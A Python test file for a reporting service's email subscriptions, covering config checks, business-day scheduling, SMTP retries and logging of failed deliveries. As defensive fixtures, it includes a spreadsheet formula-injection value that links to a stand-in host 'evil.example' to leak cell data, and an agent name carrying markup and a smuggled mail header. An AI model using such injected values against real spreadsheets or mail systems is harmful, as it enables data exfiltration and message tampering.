"""Report subscriptions (issue 15): the config contract, the daily_due mail on business mornings only (a real SMTP
server, an injected clock), nothing for an empty list with skip_if_empty, failed deliveries recorded, retried, shown
to admins and owned up to by the next mail, and the weekly subscription's scoped files mailed on Monday.

Real SQLite store holding the KPI fixture plus a few CEET and mines cases due around Christmas 2026 (25 December is
a Togo public holiday, a Friday).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import textwrap

import pytest
from apscheduler.schedulers.background import BackgroundScheduler

from collectors.normalize import empty_quarantine
from dashboard.auth.accounts import add_user
from domain.business_days import BusinessCalendar
from domain.config import ConfigError, ReportSettings, SmtpSettings, load_settings
from domain.report_settings import Subscription, check_subscription_services
from reports.schedule import daily_due_job, schedule_reports, weekly_job
from reports.subscriptions import Retry
from service.kpi_service import KpiService
from store.reader import Reader
from store.report_deliveries import ReportDeliveries
from store.watermark import Watermark
from store.writer import Batch
from tests.kpi_fixtures import frames
from tests.receivers import SmtpInbox
from tests.support import PASSWORD, call, free_port, load_fixture, login, run_app, secured_app, texts, write_config

PUBLIC = "https://vigie.mme.gouv.tg"
THURSDAY, CHRISTMAS, SATURDAY, MONDAY = (dt.datetime(2026, 12, d, 7, 0, tzinfo=dt.UTC) for d in (24, 25, 26, 28))
ATTACK_ID = '=HYPERLINK("http://evil.example/?"&A1,"x")/2?#'
ROUTER = ".._pages_content.children..._pages_store.data.."
FAST = Retry(attempts=3, waits=(0.0,), sleep=lambda _s: None)


def _smtp(port: int) -> SmtpSettings:
    to = ("cabinet@mme.gouv.tg",)
    return SmtpSettings(host="127.0.0.1", port=port, sender="vigie@mme.gouv.tg", recipients=to, starttls=False)


def _due(name: str = "ceet-echeances", services: frozenset[str] = frozenset({"CEET"}), **kw: object) -> Subscription:
    return Subscription(name, "daily_due", services, ("chefs-service@ceet.tg",), **kw)  # type: ignore[arg-type]


@pytest.fixture
def kpis(sqlite_store, catalog, clock) -> KpiService:
    """The fixture, plus: two CEET cases submitted on Monday 21 December (due after Christmas), one of them with a
    number and an agent that try to be a formula, a link and markup; one mines case due as soon (never in CEET's
    list); CEET cases of November still open (already past their delay)."""
    load_fixture(sqlite_store, clock)
    cases, events = frames(
        [
            {"case_id": "D1", "procedure_code": "CEET-ABO", "submitted_at": "2026-12-21 09:00", "agent": "ama"},
            {"case_id": ATTACK_ID, "procedure_code": "CEET-RES", "submitted_at": "2026-12-21 10:00",
             "agent": "<b>kofi</b>\nTo: everyone@x"},
            {"case_id": "M1", "procedure_code": "MIN-EXP", "submitted_at": "2026-12-21 09:00", "agent": "mines"},
        ],  # fmt: skip
        [(case, "submitted", at) for case, at in (("D1", "2026-12-21 09:00"), (ATTACK_ID, "2026-12-21 10:00"),
                                                   ("M1", "2026-12-21 09:00"))],  # fmt: skip
    )
    batch = Batch(
        source="src",
        cases=cases.drop(columns=["source", "deleted_at", "version"]),
        events=events[["case_id", "status", "at", "seq"]],
        quarantine=empty_quarantine(),
        watermarks={"cases": Watermark(), "events": Watermark()},
    )
    sqlite_store.commit_batch(batch, clock.now)
    return KpiService(Reader(sqlite_store.engine), catalog, BusinessCalendar("TG"), clock)


def _settings(port: int, *subscriptions: Subscription, out_dir=None) -> ReportSettings:  # type: ignore[no-untyped-def]
    return ReportSettings(smtp=_smtp(port), subscriptions=subscriptions, **({"out_dir": out_dir} if out_dir else {}))


# --- the config contract ------------------------------------------------------------------------------------------
CONFIG = """
[server]
public_url = "https://vigie.mme.gouv.tg"
[reports.smtp]
host = "127.0.0.1"
sender = "vigie@mme.gouv.tg"
recipients = ["cabinet@mme.gouv.tg"]
[[reports.subscriptions]]
name = "ceet-hebdo"
kind = "weekly"
services = ["CEET"]
recipients = ["dg@ceet.tg", "dsi@ceet.tg"]
[[reports.subscriptions]]
name = "ceet-echeances"
kind = "daily_due"
services = ["CEET"]
horizon_business_days = 5
recipients = ["chefs-service@ceet.tg"]
skip_if_empty = true
"""


def _load(tmp_path, reports: str):  # type: ignore[no-untyped-def]
    """A one-source config (tests.support.write_config) with this [reports] part."""
    path = write_config(tmp_path, f"sqlite:///{tmp_path / 'vigie.db'}", f"sqlite:///{tmp_path / 'src.db'}")
    path.write_text(path.read_text() + textwrap.dedent(reports))
    return load_settings(path, env={}, base_dir=tmp_path)


def test_the_issues_example_is_read_as_written(tmp_path) -> None:
    weekly, daily = _load(tmp_path, CONFIG).reports.subscriptions
    assert weekly == Subscription("ceet-hebdo", "weekly", frozenset({"CEET"}), ("dg@ceet.tg", "dsi@ceet.tg"))
    assert daily == Subscription("ceet-echeances", "daily_due", frozenset({"CEET"}), ("chefs-service@ceet.tg",), 5, True)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (('name = "ceet-echeances"', 'name = "ceet-hebdo"'), "nom d'abonnement en double : ceet-hebdo"),
        (('kind = "weekly"', 'kind = "monthly"'), "« ceet-hebdo »: clé kind : « monthly »"),
        (('name = "ceet-hebdo"', 'name = "ceet hebdo/x"'), "clé name"),
        (('services = ["CEET"]\nrecipients = ["dg', 'services = []\nrecipients = ["dg'), "« ceet-hebdo »: clé services"),
        (('["dg@ceet.tg", "dsi@ceet.tg"]', '["dg"]'), "« ceet-hebdo »: clé recipients"),
        (("horizon_business_days = 5", "horizon_business_days = 61"), "clé horizon_business_days : un entier de 1 à 60"),
        (("horizon_business_days = 5", "horizon_business_days = true"), "type invalide pour la clé horizon_business_days"),
        (('kind = "weekly"', 'kind = "weekly"\nskip_if_empty = true'), "skip_if_empty : réservée aux abonnements daily_due"),
        (('kind = "weekly"', 'kind = "weekly"\ncolour = "red"'), "clé inconnue : colour"),
        (("[reports.smtp]\nhost", "[reports.smtp_off]\nhost"), "clé inconnue : smtp_off"),
    ],
)
def test_a_bad_subscription_is_refused_naming_it(tmp_path, change, words) -> None:
    with pytest.raises(ConfigError, match=words.replace("(", r"\(").replace("?", r"\?")):
        _load(tmp_path, CONFIG.replace(*change))


def test_daily_due_links_need_the_public_url(tmp_path) -> None:
    without = CONFIG.replace('[server]\npublic_url = "https://vigie.mme.gouv.tg"\n', "")
    with pytest.raises(ConfigError, match=r"« ceet-echeances » : ses liens vers les dossiers demandent \[server\] public_url"):
        _load(tmp_path, without)
    weekly_only = without[: without.index('[[reports.subscriptions]]\nname = "ceet-echeances"')]
    assert len(_load(tmp_path, weekly_only).reports.subscriptions) == 1  # a weekly report links nowhere


def test_subscriptions_need_smtp_and_known_structures(tmp_path, catalog) -> None:
    without = CONFIG[: CONFIG.index("[reports.smtp]")] + CONFIG[CONFIG.index("[[reports.subscriptions]]") :]
    with pytest.raises(ConfigError, match=r"demandent un serveur \[reports.smtp\]"):
        _load(tmp_path, without)
    unknown = CONFIG.replace('services = ["CEET"]\nrecipients = ["dg', 'services = ["CEET", "XYZ"]\nrecipients = ["dg')
    settings = _load(tmp_path, unknown)
    with pytest.raises(ConfigError, match="« ceet-hebdo »: clé services : structure inconnue : XYZ"):
        check_subscription_services(settings.reports.subscriptions, "vigie.toml [reports]", set(catalog["service"]))
    # at start-up: any command reading the config stops with it (exit 2)
    path = tmp_path / "bad.toml"
    path.write_text((tmp_path / "vigie.toml").read_text())
    done = run_app("report", "--config", str(path))
    assert done.returncode == 2 and "structure inconnue : XYZ" in done.stderr


# --- daily_due -----------------------------------------------------------------------------------------------------
def test_daily_due_is_mailed_on_business_mornings_only(kpis, clock) -> None:
    port = free_port()
    settings = _settings(port, _due(horizon_business_days=5))
    job = daily_due_job(settings, lambda: kpis, clock, PUBLIC, FAST)
    with SmtpInbox(port) as inbox:
        for day in (SATURDAY, CHRISTMAS):
            clock.now = day
            job()
        assert inbox.messages == []
        clock.now = THURSDAY
        job()
    [message] = inbox.messages
    assert message["Subject"] == "Vigie — dossiers à échéance (CEET) — 24/12/2026"
    assert message["To"] == "chefs-service@ceet.tg"
    assert [p.get_content_type() for p in message.walk() if not p.is_multipart()] == ["text/plain", "text/csv"]
    body = message.get_body(("plain",)).get_content()
    assert "dans les 5 prochains jours ouvrés" in body and "M1" not in body and "mines" not in body
    assert "• D1 — CEET-ABO (Souscription d'abonnement électricité)" in body
    assert f"{PUBLIC}/explorer/case/src/D1" in body
    encoded = "%3DHYPERLINK%28%22http%3A%2F%2Fevil.example%2F%3F%22%26A1%2C%22x%22%29%2F2%3F%23"
    assert f"{PUBLIC}/explorer/case/src/{encoded}" in body
    assert "\nTo: everyone" not in body and "agent : <b>kofi</b> To: everyone@x" in body  # text, on its own line
    assert "déjà dépassé leur délai légal" in body  # November's open CEET cases
    [attachment] = [p for p in message.iter_attachments()]
    assert attachment.get_filename() == "vigie-echeances-2026-12-24.csv"
    rows = list(csv.DictReader(io.StringIO(attachment.get_content().lstrip("\ufeff")), delimiter=";"))
    assert {r["Dossier"] for r in rows} == {"D1", "'" + ATTACK_ID}  # the formula neutralised
    d1 = next(r for r in rows if r["Dossier"] == "D1")
    assert (d1["Procédure"], d1["Délai légal"], d1["Agent"]) == ("CEET-ABO", "5", "ama")
    assert d1["Lien"] == f"{PUBLIC}/explorer/case/src/D1" and d1["Échéance"] and int(d1["Jours ouvrés utilisés"]) >= 0
    [row] = ReportDeliveries(kpis.reader.engine).latest().to_dict("records")
    assert (row["subscription"], row["period"], row["state"], row["attempts"]) == ("ceet-echeances", "2026-12-24", "sent", 1)


def test_the_seven_oclock_job_runs_on_weekdays_in_lome(kpis, clock) -> None:
    scheduler = BackgroundScheduler(timezone="Africa/Lome")
    schedule_reports(scheduler, _settings(free_port(), _due()), lambda: kpis, clock, PUBLIC)
    fire = scheduler.get_job("daily-due-report").trigger.get_next_fire_time(None, dt.datetime(2026, 12, 25, 8, 0, tzinfo=dt.UTC))
    assert (fire.strftime("%A %d %H:%M"), str(fire.tzinfo)) == ("Monday 28 07:00", "Africa/Lome")
    bare = BackgroundScheduler(timezone="Africa/Lome")
    schedule_reports(bare, ReportSettings(), lambda: kpis, clock)
    assert bare.get_job("daily-due-report") is None  # no daily_due subscription, no job


def test_an_empty_list_sends_nothing_with_skip_if_empty(kpis, clock) -> None:
    port = free_port()
    clock.now = THURSDAY
    quiet, told = _due("at2er-quiet", frozenset({"AT2ER"}), skip_if_empty=True), _due("at2er-told", frozenset({"AT2ER"}))
    with SmtpInbox(port) as inbox:
        daily_due_job(_settings(port, quiet), lambda: kpis, clock, PUBLIC, FAST)()
        assert inbox.messages == [] and ReportDeliveries(kpis.reader.engine).latest().empty
        daily_due_job(_settings(port, told), lambda: kpis, clock, PUBLIC, FAST)()
    [message] = inbox.messages
    assert not message.is_multipart() and "(et pas encore dépassée), au 24 déc. 2026 : 0." in message.get_content()
    assert list(message.iter_attachments()) == []


# --- failures: recorded, retried, shown to admins, owned up to ----------------------------------------------------------
class _Refusing(SmtpInbox):
    """A real SMTP server that refuses mails while ``refusing`` is set (451: try again later)."""

    refusing = True

    async def handle_DATA(self, server, session, envelope):  # type: ignore[no-untyped-def] # noqa: N802 - aiosmtpd's hook name
        return "451 4.3.0 boîte pleine" if self.refusing else await super().handle_DATA(server, session, envelope)


def test_a_failed_delivery_is_recorded_retried_shown_to_admins_and_told_in_the_next_mail(
    kpis, clock, sqlite_store, catalog, tmp_path
) -> None:
    port = free_port()
    waits: list[float] = []
    retry = Retry(attempts=3, waits=(30.0, 120.0), sleep=waits.append)
    job = daily_due_job(_settings(port, _due()), lambda: kpis, clock, PUBLIC, retry)
    with _Refusing(port) as server:
        clock.now = THURSDAY
        job()
        assert server.messages == []
        [failed] = ReportDeliveries(kpis.reader.engine).latest().to_dict("records")
        assert (failed["state"], failed["attempts"], waits) == ("failed", 3, [30.0, 120.0])
        assert "451" in failed["last_error"]
        # on /rapports: the admin sees it, with its error; a manager sees no delivery log
        app = secured_app(sqlite_store, catalog, clock, reports_dir=tmp_path)
        add_user(sqlite_store.engine, "kodjo", PASSWORD, "manager", clock.now, frozenset({"CEET"}))
        admin_page = texts(_route(login(app, "ada")).get_json())
        assert "Envois des abonnements" in admin_page and "échec" in admin_page and "ceet-echeances" in admin_page
        assert any("451" in w for w in admin_page)
        for manager in ("marc", "kodjo"):
            page = texts(_route(login(app, manager)).get_json())
            assert "Rapports hebdomadaires" in page and "Envois des abonnements" not in page and not any("451" in w for w in page)
        # the next business morning, the mail goes through and says the earlier one failed
        server.refusing = False
        clock.now = MONDAY
        job()
        job()  # a second mail the same morning: the failure has been told already
    first, second = (m.get_body(("plain",)).get_content() for m in server.messages)
    assert first.startswith("⚠ L'envoi du 24/12/2026 à 07:00 (heure de Lomé) (dossiers à échéance du 2026-12-24) n'a pas abouti")
    # the recipients read why in a fixed sentence; the server's own answer stays in the admins' log
    assert first.splitlines()[0].endswith("n'a pas abouti : le serveur de messagerie ne l'a pas accepté.")
    assert "451" not in first and "boîte" not in first
    assert "⚠" not in second
    states = ReportDeliveries(kpis.reader.engine).latest()["state"].tolist()
    assert states == ["sent", "sent", "failed"]


def test_a_mail_cut_short_or_a_job_that_stopped_is_owned_up_to(kpis, clock) -> None:
    """A process killed while sending leaves a pending row; a job that stops before its mails records them failed:
    both are told in the next mail, in words fit for the recipients, even when the list is empty (skip_if_empty)."""
    from reports.subscriptions import record_failure

    deliveries = ReportDeliveries(kpis.reader.engine)
    subscription = _due(skip_if_empty=True)
    clock.now = THURSDAY
    deliveries.open(subscription.name, subscription.kind, "2026-12-23", subscription.recipients, clock.now)  # killed
    error = "tâche interrompue : OperationalError: host=db user=x"
    record_failure(kpis.reader.engine, subscription, "2026-12-24", error, clock.now)
    assert len(deliveries.unreported_failures(subscription.name)) == 1  # a pending row may be a mail being sent
    port = free_port()
    with SmtpInbox(port) as server:
        clock.now = MONDAY
        empty = Subscription("vide", "daily_due", frozenset({"CEET"}), ("x@ceet.tg",), 1, True)
        daily_due_job(_settings(port, subscription, empty), lambda: kpis, clock, PUBLIC)()
    bodies = [m.get_body(("plain",)).get_content() for m in server.messages]
    [told] = [b for b in bodies if b.startswith("⚠")]
    lines = told.splitlines()
    assert "(dossiers à échéance du 2026-12-23) n'a pas abouti : l'envoi a été interrompu." in lines[0]
    assert "(dossiers à échéance du 2026-12-24) n'a pas abouti : la tâche d'envoi n'a pas pu s'exécuter." in lines[1]
    assert "host=db" not in told and "OperationalError" not in told
    assert deliveries.unreported_failures(subscription.name) == []


def test_a_job_that_cannot_start_records_its_mails_as_failed(kpis, clock) -> None:
    calls = iter([RuntimeError("service down"), kpis])

    def service() -> KpiService:
        answer = next(calls)
        if isinstance(answer, Exception):
            raise answer
        return answer

    clock.now = THURSDAY
    daily_due_job(_settings(free_port(), _due()), service, clock, PUBLIC)()
    [failed] = ReportDeliveries(kpis.reader.engine).latest().to_dict("records")
    assert (failed["state"], failed["subscription"], failed["period"]) == ("failed", "ceet-echeances", "2026-12-24")
    assert failed["last_error"].startswith("tâche interrompue : RuntimeError: service down")


def _route(client):  # type: ignore[no-untyped-def]
    address = [
        {"id": "_pages_location", "property": "pathname", "value": "/rapports"},
        {"id": "_pages_location", "property": "search", "value": ""},
    ]
    return call(client, ROUTER, address, state=address)


# --- weekly --------------------------------------------------------------------------------------------------------
def test_the_monday_job_writes_and_mails_the_weekly_subscriptions_scoped_report(kpis, clock, tmp_path) -> None:
    port = free_port()
    weekly = Subscription("ceet-hebdo", "weekly", frozenset({"CEET"}), ("dg@ceet.tg", "dsi@ceet.tg"))
    settings = _settings(port, weekly, _due(), out_dir=tmp_path)
    clock.now = dt.datetime(2026, 11, 30, 6, 0, tzinfo=dt.UTC)
    with SmtpInbox(port) as inbox:
        weekly_job(settings, lambda: kpis, clock, FAST)()
    folder = tmp_path / "2026-W48"
    assert sorted(p.name for p in folder.iterdir()) == [
        "vigie-rapport-2026-W48-CEET.pdf", "vigie-rapport-2026-W48-CEET.xlsx",
        "vigie-rapport-2026-W48.pdf", "vigie-rapport-2026-W48.xlsx",
    ]  # fmt: skip
    ministry, ceet = inbox.messages  # the ministry's report first, then the subscription's; no daily_due on Monday job
    assert ministry["To"] == "cabinet@mme.gouv.tg" and ceet["To"] == "dg@ceet.tg, dsi@ceet.tg"
    assert ceet["Subject"] == "Vigie — rapport hebdomadaire 2026-W48 — CEET"
    names = [p.get_filename() for p in ceet.iter_attachments()]
    assert names == ["vigie-rapport-2026-W48-CEET.pdf", "vigie-rapport-2026-W48-CEET.xlsx"]
    pdf = next(p for p in ceet.iter_attachments() if p.get_filename().endswith(".pdf")).get_content()
    assert pdf == (folder / "vigie-rapport-2026-W48-CEET.pdf").read_bytes()
    [row] = ReportDeliveries(kpis.reader.engine).latest().to_dict("records")
    assert (row["subscription"], row["kind"], row["period"], row["state"]) == ("ceet-hebdo", "weekly", "2026-W48", "sent")


@pytest.mark.parametrize("backend", ["pg_url", "mariadb_url"])
def test_the_delivery_log_on_postgresql_and_mariadb(backend, request) -> None:
    from store.engines import create_store_engine
    from store.writer import Store

    store = Store(create_store_engine(request.getfixturevalue(backend)))
    store.create()
    log, at = ReportDeliveries(store.engine), THURSDAY
    lost = log.open("ceet-echeances", "daily_due", "2026-12-24", ("chefs-service@ceet.tg",), at)
    log.attempt_failed(lost, "451 boîte pleine", at, final=False)
    log.attempt_failed(lost, "451 boîte pleine", at, final=True)
    nxt = log.open("ceet-echeances", "daily_due", "2026-12-28", ("chefs-service@ceet.tg",), MONDAY)
    [failure] = log.unreported_failures("ceet-echeances", before_id=nxt)
    assert (failure.state, failure.attempts, failure.last_error, failure.created_at) == ("failed", 2, "451 boîte pleine", at)
    assert failure.recipients == ("chefs-service@ceet.tg",)
    log.sent(nxt, MONDAY)
    assert log.unreported_failures("ceet-echeances") == []
    assert log.latest()["state"].tolist() == ["sent", "failed"]
    store.engine.dispose()


def test_a_source_value_is_one_visible_line_before_the_csv_guard() -> None:
    import pandas as pd

    from reports.cells import csv_safe
    from reports.due import plain

    assert plain("\t=HYPERLINK(\"http://x\")") == '=HYPERLINK("http://x")'  # trimmed, so the guard below sees it
    assert plain("a\u202eb\u200bc\x85d") == "a b c d"  # bidi override, zero-width space, NEL
    guarded = csv_safe(pd.DataFrame({"Agent": [plain("\t=1+1"), plain(" @cmd"), "Ama"]}))
    assert guarded["Agent"].tolist() == ["'=1+1", "'@cmd", "Ama"]
